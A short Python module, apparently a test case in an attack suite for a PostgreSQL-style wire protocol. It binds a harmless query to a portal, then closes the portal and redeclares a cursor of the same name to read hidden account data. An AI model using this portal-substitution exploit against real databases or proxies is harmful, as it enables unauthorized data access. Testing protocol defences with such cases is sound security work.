"""Closes a harmless portal with SQL, and declares a cursor of its name."""

from attacks.frames import SYNC, ask, bind, execute, parse, query, whole
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(client, query(b"BEGIN"))
        ask(client, parse(b"SELECT name FROM customer"), bind(portal=b"p"), SYNC)
        anew = whole(b"CLOSE p") + whole(b"DECLARE p CURSOR FOR SELECT account_unseen(1)")
        return ask(client, anew, execute(b"p"), SYNC)
